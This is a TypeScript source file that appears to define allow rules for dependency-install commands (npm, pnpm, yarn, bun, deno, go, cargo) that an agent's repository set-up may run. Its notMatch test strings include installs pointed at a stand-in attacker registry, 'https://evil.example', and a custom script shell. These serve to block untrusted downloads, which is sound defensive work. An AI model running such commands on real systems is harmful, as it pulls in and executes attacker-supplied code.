/**
 * What set-up may also do: install what the repository's own manifests and lockfiles name. The agent uses
 * install_dependencies instead. Set-up commands come from the owner, on the base branch, and run while the registry
 * is reachable.
 */
import { bun } from './bun.ts';
import { cargo } from './cargo.ts';
import { deno } from './deno.ts';
import { go } from './go.ts';
import { npm } from './npm.ts';
import { pnpm } from './pnpm.ts';
import { python } from './python.ts';
import { pdm, poetry, uv } from './python-runners.ts';
import { pdmInstall, pip, poetryInstall, pythonTool, uvInstall, uvPip, venv } from './python-set-up.ts';
import type { Program, Subcommand } from './rule.ts';
import { yarn } from './yarn.ts';

const npmInstall: Subcommand = {
  names: ['ci', 'clean-install', 'install', 'i'],
  reason: 'installs what package.json and its lockfile name, with install scripts disabled',
  wordFlags: true,
  flags: `
    --no-audit --no-fund --prefer-offline --ignore-scripts --legacy-peer-deps --no-package-lock --no-save
    --workspaces -ws --include-workspace-root -q --quiet -s --silent --omit=name --include=name --loglevel=name
    -w=module --workspace=module
  `,
  operands: [],
  refused: npm.refused ?? {},
  match: ['npm ci', 'npm ci --no-audit --no-fund', 'npm install', 'npm i --omit=dev'],
  notMatch: [
    'npm install left-pad',
    'npm ci --registry=https://evil.example',
    'npm install -g',
    'npm ci --script-shell=x',
  ],
};

const pnpmInstall: Subcommand = {
  names: ['install', 'i'],
  reason: 'installs what package.json and its lockfile name, with install scripts disabled',
  flags: `
    --frozen-lockfile --no-frozen-lockfile --no-lockfile --prefer-offline --offline --ignore-scripts --no-optional -P --prod
    -D --dev -r --recursive -s --silent --reporter=name --filter=pattern -F=pattern
  `,
  operands: [],
  refused: pnpm.refused ?? {},
  match: ['pnpm install --frozen-lockfile', 'pnpm i', 'pnpm install --prefer-offline'],
  notMatch: ['pnpm install evil', 'pnpm install --registry=https://evil.example', 'pnpm -C /x install'],
};

const yarnInstall: Subcommand = {
  names: ['install'],
  reason: 'installs what package.json and its lockfile name, with install scripts disabled',
  flags: `
    --frozen-lockfile --immutable --no-immutable --no-lockfile --pure-lockfile --ignore-engines --ignore-scripts --non-interactive --production --prefer-offline --offline
    --inline-builds --mode=name --network-timeout=number
  `,
  operands: [],
  match: ['yarn install --frozen-lockfile', 'yarn install --immutable', 'yarn install --mode=skip-build'],
  notMatch: ['yarn install evil', 'yarn install --registry=https://evil.example', 'yarn install --cwd /x'],
};

const bunInstall: Subcommand = {
  names: ['install', 'i'],
  reason: 'brings in what package.json and its lockfile name',
  flags: '--frozen-lockfile --ignore-scripts --production --no-save --silent',
  operands: [],
  match: ['bun install --frozen-lockfile', 'bun install'],
  notMatch: ['bun install evil', 'bun install -g', 'bun install --registry=https://evil.example'],
};

const denoInstall: Subcommand = {
  names: ['install'],
  reason: 'brings in what deno.json and its lockfile name',
  flags: '--frozen[=name] --no-lock --quiet -q',
  operands: [],
  match: ['deno install', 'deno install --frozen'],
  notMatch: ['deno install -g evil', 'deno install npm:evil', 'deno install --allow-scripts'],
};

const goDownload: Subcommand = {
  names: ['mod download'],
  reason: 'brings in what go.mod names',
  wordFlags: true,
  flags: '-x -json',
  operands: [],
  match: ['go mod download', 'go mod download -x'],
  notMatch: ['go mod download evil.example/x@latest', 'go mod edit -replace=a=/x'],
};

const cargoFetch: Subcommand = {
  names: ['fetch'],
  reason: 'brings in what Cargo.lock names',
  flags: '--locked --frozen --offline -q --quiet -v --verbose --target=name --manifest-path=read',
  operands: [],
  match: ['cargo fetch', 'cargo fetch --locked'],
  notMatch: ['cargo fetch --config x', 'cargo fetch --manifest-path /x/Cargo.toml', 'cargo fetch evil'],
};

/** These replace the agent's rules of the same names. */
export const setupPrograms: Program[] = [
  extend(npm, npmInstall),
  extend(pnpm, pnpmInstall),
  // Without a subcommand, yarn installs.
  {
    ...extend(yarn, yarnInstall),
    minOperands: 0,
    match: ['yarn'],
    notMatch: ['yarn add evil', 'yarn dlx evil'],
  },
  extend(bun, bunInstall),
  extend(deno, denoInstall),
  extend(go, goDownload),
  extend(cargo, cargoFetch),
  extend(python, pythonTool),
  extend(uv, uvInstall, uvPip, venv.asSubcommand),
  extend(poetry, poetryInstall),
  extend(pdm, pdmInstall),
  pip,
  venv.program,
];

function extend(program: Program, ...more: Subcommand[]): Program {
  const names = new Set(more.flatMap((subcommand) => subcommand.names));
  const kept = (program.subcommands ?? []).filter((each) => !each.names.some((name) => names.has(name)));
  const [name = ''] = program.names;
  return { ...program, subcommands: [...kept, ...more], notMatch: [`${name} --no-such-flag`] };
}
